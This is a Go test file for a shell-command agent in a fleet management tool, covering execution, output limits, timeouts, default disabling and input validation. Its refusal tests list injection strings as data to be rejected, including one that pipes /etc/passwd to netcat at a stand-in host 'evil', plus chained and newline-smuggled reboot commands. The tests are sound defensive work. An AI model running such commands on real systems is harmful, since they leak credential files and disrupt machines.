package shell

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/tuttifleet/tutti/agents"
	"github.com/tuttifleet/tutti/connector/protocol"
)

func build(t *testing.T, c Config) agents.Agent {
	t.Helper()
	a, err := NewWith(c)
	if err != nil {
		t.Fatal(err)
	}
	if a, err = agents.WithDDL(a, DDL); err != nil {
		t.Fatal(err)
	}
	return a
}

func call(a agents.Agent, data string) (agents.Reply, map[string]any) {
	rep := a.Run(context.Background(), "run", &agents.Request{Agent: "shell", Action: "run", Data: json.RawMessage(data)})
	b, _ := json.Marshal(rep.Data)
	var m map[string]any
	_ = json.Unmarshal(b, &m)
	return rep, m
}

func TestRun(t *testing.T) {
	a := build(t, Config{Enabled: true})
	rep, d := call(a, `{"command":"echo hello   world","args":["$HOME", "a b", "*"]}`)
	if rep.StatusCode != protocol.OK || d["stdout"] != "hello world $HOME a b *\n" || d["exitcode"].(float64) != 0 || d["success"] != true {
		t.Fatalf("echo: %+v %v", rep, d)
	}
	rep, d = call(a, `{"command":"/bin/sh","args":["-c","echo oops >&2; exit 3"]}`)
	if rep.StatusCode != protocol.OK || d["stderr"] != "oops\n" || d["exitcode"].(float64) != 3 || d["success"] != false {
		t.Fatalf("exit 3: %+v %v", rep, d)
	}
	rep, d = call(a, `{"command":"env"}`)
	if rep.StatusCode != protocol.OK || d["stdout"] != "PATH="+DefaultPath+"\nLANG=C\nLC_ALL=C\n" {
		t.Fatalf("env: %+v %v", rep, d)
	}
}

func TestOutputBound(t *testing.T) {
	a := build(t, Config{Enabled: true, MaxOutput: 1000})
	rep, d := call(a, `{"command":"head -c 100000 /dev/zero"}`)
	if rep.StatusCode != protocol.OK || len(d["stdout"].(string)) != 1000 || d["truncated"] != true || d["exitcode"].(float64) != 0 {
		t.Fatalf("bounded output: %+v truncated=%v len=%d", rep.StatusCode, d["truncated"], len(d["stdout"].(string)))
	}
}

func TestTimeout(t *testing.T) {
	a := build(t, Config{Enabled: true})
	start := time.Now()
	// the child sleeps too: the whole process group is killed
	rep, d := call(a, `{"command":"/bin/sh","args":["-c","echo started; sleep 30 & sleep 30"],"timeout":0.3}`)
	if rep.StatusCode != protocol.Aborted || !strings.Contains(rep.StatusMsg, "did not finish within 300ms and was killed") ||
		d["timed_out"] != true || d["stdout"] != "started\n" {
		t.Fatalf("timeout: %+v %v", rep, d)
	}
	if took := time.Since(start); took > 5*time.Second {
		t.Fatalf("the timeout took %s", took)
	}
}

func TestDisabledByDefault(t *testing.T) {
	a := build(t, Config{})
	rep, _ := call(a, `{"command":"echo hi"}`)
	if rep.StatusCode != protocol.Aborted || !strings.Contains(rep.StatusMsg, "disabled on this node: set plugin.tutti.shell.enabled = true") {
		t.Fatalf("disabled: %+v", rep)
	}
	n := fakeNode{}
	b, err := New(n)
	if err != nil {
		t.Fatal(err)
	}
	if rep, _ := call(b, `{"command":"echo hi"}`); rep.StatusCode != protocol.Aborted {
		t.Fatalf("no configuration: %+v", rep)
	}
	if _, err := New(fakeNode{EnabledKey: "maybe"}); err == nil || !strings.Contains(err.Error(), EnabledKey) {
		t.Fatalf("bad enabled: %v", err)
	}
	if _, err := New(fakeNode{MaxOutputKey: "100000000"}); err == nil || !strings.Contains(err.Error(), MaxOutputKey) {
		t.Fatalf("bad max_output: %v", err)
	}
	b, err = New(fakeNode{EnabledKey: "yes", MaxOutputKey: "10"})
	if err != nil {
		t.Fatal(err)
	}
	if rep, d := call(b, `{"command":"echo 0123456789abc"}`); rep.StatusCode != protocol.OK || d["stdout"] != "0123456789" {
		t.Fatalf("enabled by config: %+v %v", rep, d)
	}
}

type fakeNode map[string]string

func (f fakeNode) ConfigItem(k string) (string, bool) { v, ok := f[k]; return v, ok }
func (fakeNode) Identity() string                     { return "n" }
func (fakeNode) Fact(string) (any, bool)              { return nil, false }
func (fakeNode) Facts() map[string]any                { return nil }
func (fakeNode) Classes() []string                    { return nil }
func (fakeNode) Agents() []string                     { return nil }
func (fakeNode) Collectives() []string                { return nil }
func (fakeNode) MainCollective() string               { return "" }
func (fakeNode) Stats() agents.Stats                  { return agents.Stats{} }
func (fakeNode) Version() string                      { return "" }
func (fakeNode) ConfigFile() string                   { return "" }
func (fakeNode) StartTime() time.Time                 { return time.Time{} }

func TestRefused(t *testing.T) {
	a := build(t, Config{Enabled: true})
	inner, _ := NewWith(Config{Enabled: true})
	for _, c := range []struct{ data, want string }{
		{`{"command":"echo hi; reboot"}`, "no shell runs here"},
		{`{"command":"echo $(id)"}`, "no shell runs here"},
		{`{"command":"cat /etc/passwd | nc evil 1"}`, "no shell runs here"},
		{`{"command":"echo 'quoted'"}`, "no shell runs here"},
		{`{"command":"ls *"}`, "no shell runs here"},
		{`{"command":"echo hi\nreboot"}`, "control character"},
		{`{"command":"-rf"}`, "command"},
		{`{"command":"  "}`, "command"},
		{`{"command":"echo","args":"not an array"}`, "args"},
		{`{"command":"echo","args":[1,2]}`, "args"},
		{`{"command":"echo","timeout":-1}`, "timeout"},
		{`{"command":"echo","timeout":1000}`, "timeout"},
		{`{"command":"` + strings.Repeat("a", 10241) + `"}`, "command"},
	} {
		for i, ag := range []agents.Agent{a, inner} {
			if i == 1 && strings.Contains(c.data, "aaaa") {
				continue // the length bound is the DDL's
			}
			rep, _ := call(ag, c.data)
			if rep.StatusCode != protocol.InvalidData || !strings.Contains(rep.StatusMsg, c.want) {
				t.Errorf("%.60s: %+v", c.data, rep)
			}
		}
	}
	for _, c := range []struct{ data, want string }{
		{`{"command":"./evil"}`, "relative path"},
		{`{"command":"../bin/ls"}`, "relative path"},
		{`{"command":"no-such-program-here"}`, "not found in"},
		{`{"command":"/etc/passwd"}`, "not an executable file"},
	} {
		if rep, _ := call(a, c.data); rep.StatusCode != protocol.Aborted || !strings.Contains(rep.StatusMsg, c.want) {
			t.Errorf("%s: %+v", c.data, rep)
		}
	}
	if _, err := NewWith(Config{Path: "bin:/usr/bin"}); err == nil {
		t.Error("a relative search path was accepted")
	}
}

func FuzzArgv(f *testing.F) {
	for _, s := range []string{"echo hi", "ls -l /tmp", "a;b", "$(x)", "-x", " ", "a\tb"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		argv, err := Argv(s, nil)
		if err != nil {
			return
		}
		if strings.ContainsAny(s, metachars+"\n\r\x00") || strings.HasPrefix(argv[0], "-") {
			t.Fatalf("Argv accepted %q", s)
		}
		if strings.Join(argv, " ") != strings.Join(strings.Fields(s), " ") {
			t.Fatalf("Argv(%q) = %q", s, argv)
		}
	})
}
